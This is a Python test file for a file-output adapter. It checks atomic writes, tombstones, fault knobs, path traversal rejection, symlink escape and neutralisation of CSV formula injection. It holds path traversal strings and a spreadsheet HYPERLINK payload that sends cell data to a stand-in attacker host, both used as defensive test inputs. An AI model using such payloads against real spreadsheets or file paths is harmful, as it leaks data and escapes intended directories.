"""The built-in file destination: conformance suite, atomic writes, tombstones, fault knobs."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import attrs
import pytest
from hypothesis import given
from hypothesis import strategies as st

from coprolib.adapters import ConfigError, RetractRef, Status, build_adapter
from coprolib.adapters.file_destination import FileAdapter
from coprolib.testing.conformance import AdapterConformance
from coprolib.testing.shares import canonical_shares, make_share


class TestFileJsonlConformance(AdapterConformance):
    @pytest.fixture
    def adapter(self, tmp_path: Path) -> FileAdapter:
        return FileAdapter({"directory": str(tmp_path)}, destination="test")

    def remote_keys(self, adapter: Any) -> list[str]:
        return [row["key"] for row in adapter.records()]


class TestFileCsvConformance(TestFileJsonlConformance):
    @pytest.fixture
    def adapter(self, tmp_path: Path) -> FileAdapter:
        return FileAdapter({"directory": str(tmp_path), "format": "csv"}, destination="test")


def test_registered_through_the_plugin_hook(tmp_path: Path) -> None:
    adapter = build_adapter("file", {"directory": str(tmp_path)}, destination="board")
    assert isinstance(adapter, FileAdapter)
    assert adapter.path == tmp_path / "board.jsonl"


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
def test_content_round_trips_exactly(tmp_path: Path, fmt: str) -> None:
    adapter = FileAdapter({"directory": str(tmp_path), "format": fmt}, destination="test")
    shares = canonical_shares()
    adapter.deliver(shares)
    rows = {row["key"]: row for row in adapter.records()}
    for share in shares:
        row = rows[share.idempotency_key]
        body = row["body"] if fmt == "csv" else row["share"]["body"]
        title = row["title"] if fmt == "csv" else row["share"]["title"]
        assert (title, body) == (share.title, share.body)


def test_retraction_leaves_a_tombstone_without_content(tmp_path: Path) -> None:
    adapter = FileAdapter({"directory": str(tmp_path)}, destination="test")
    share = make_share("s1")
    adapter.deliver([share])
    adapter.retract([RetractRef(share_id="s1", idempotency_key=share.idempotency_key)])
    lines = [json.loads(line) for line in adapter.path.read_text().splitlines()]
    assert lines == [
        {
            "key": share.idempotency_key,
            "share_id": "s1",
            "status": "retracted",
            "at": lines[0]["at"],
        }
    ]
    assert share.body not in adapter.path.read_text()


def test_write_is_atomic_when_the_rename_fails(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    adapter = FileAdapter({"directory": str(tmp_path)}, destination="test")
    adapter.deliver([make_share("before")])
    before = adapter.path.read_bytes()

    def broken_replace(src: str, dst: str) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("os.replace", broken_replace)
    results = adapter.deliver([make_share("after")])
    assert results[0].status is Status.RETRYABLE
    assert "No space left" in (results[0].message or "")
    assert adapter.path.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["test.jsonl", "test.jsonl.lock"]


def test_fault_knobs_fail_as_configured(tmp_path: Path) -> None:
    settings = {"directory": str(tmp_path), "retry_prob": 0.5, "seed": 3}
    adapter = FileAdapter(settings, destination="test")
    shares = [make_share(f"s{i}") for i in range(200)]
    results = adapter.deliver(shares)
    failed = [r for r in results if r.status is Status.RETRYABLE]
    assert 60 < len(failed) < 140
    assert len(adapter.records()) == 200 - len(failed)


def test_lost_reply_writes_but_reports_retryable(tmp_path: Path) -> None:
    adapter = FileAdapter({"directory": str(tmp_path), "lost_reply_prob": 1.0}, destination="t")
    results = adapter.deliver([make_share("s1")])
    assert results[0].status is Status.RETRYABLE
    assert [row["share_id"] for row in adapter.records()] == ["s1"]


def test_throttle_knob_gives_retry_after(tmp_path: Path) -> None:
    settings = {"directory": str(tmp_path), "throttle_prob": 1.0, "throttle_seconds": 9}
    results = FileAdapter(settings, destination="t").deliver([make_share("s1")])
    assert (results[0].status, results[0].retry_after) == (Status.THROTTLED, 9)


def test_bad_settings_name_the_destination_and_field(tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as caught:
        FileAdapter({"directory": str(tmp_path), "format": "xml"}, destination="board")
    assert "destinations.board.settings" in str(caught.value)
    assert "format" in str(caught.value)
    with pytest.raises(ConfigError, match="fail_prob"):
        FileAdapter({"directory": str(tmp_path), "fail_prob": 2.0}, destination="board")


@pytest.mark.parametrize(
    ("destination", "filename"),
    [
        ("../../x", None),
        ("ok", "../escape.jsonl"),
        ("ok", "/tmp/absolute.jsonl"),
        ("ok", "sub/dir.jsonl"),
        ("ok", ".hidden"),
        ("ok", ".."),
        ("ok", "a\\..\\b"),
    ],
)
def test_never_writes_outside_its_directory(
    tmp_path: Path, destination: str, filename: str | None
) -> None:
    folder = tmp_path / "inside" / "shares"
    settings: dict[str, Any] = {"directory": str(folder)}
    if filename is not None:
        settings["filename"] = filename
    with pytest.raises(ConfigError, match=r"file name|outside"):
        FileAdapter(settings, destination=destination)
    assert not any(p.is_file() for p in tmp_path.rglob("*"))


def test_symlinked_file_name_cannot_lead_outside(tmp_path: Path) -> None:
    folder = tmp_path / "shares"
    folder.mkdir()
    (folder / "out.jsonl").symlink_to(tmp_path / "elsewhere.jsonl")
    with pytest.raises(ConfigError, match="outside"):
        FileAdapter({"directory": str(folder), "filename": "out.jsonl"}, destination="d")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_start_a_formula_are_neutralised(tmp_path: Path, start: str) -> None:
    payload = f'{start}HYPERLINK("https://attacker.invalid/?"&A1,"open")'
    adapter = FileAdapter({"directory": str(tmp_path), "format": "csv"}, destination="board")
    share = attrs.evolve(make_share("f1", title=payload, body=payload), recommendation="-1+2")
    assert adapter.deliver([share])[0].status is Status.OK
    with open(adapter.path, encoding="utf-8", newline="") as handle:
        raw = next(csv.DictReader(handle))
    assert (raw["title"], raw["body"], raw["recommendation"]) == ("'" + payload,) * 2 + ("'-1+2",)
    # Read back, the cells are what was sent; a second write (the rows are read back and
    # rewritten) does not stack the prefix.
    row = adapter.records()[0]
    assert (row["title"], row["body"], row["recommendation"]) == (payload, payload, "-1+2")
    adapter.deliver([make_share("f2")])
    assert adapter.rows()[0]["title"] == payload
    text = adapter.path.read_text(encoding="utf-8")
    assert f",{start}HYPERLINK" not in text and f"\n{start}" not in text
    assert "''" + start not in text


@given(st.text(max_size=40))
def test_neutralised_cells_never_start_a_formula_and_stay_stable(value: str) -> None:
    from coprolib.adapters.file_destination import FORMULA_START, neutralise_cell, restore_cell

    once = neutralise_cell(value)
    assert not once.startswith(FORMULA_START)
    assert restore_cell(once) == value
    assert once in (value, "'" + value)
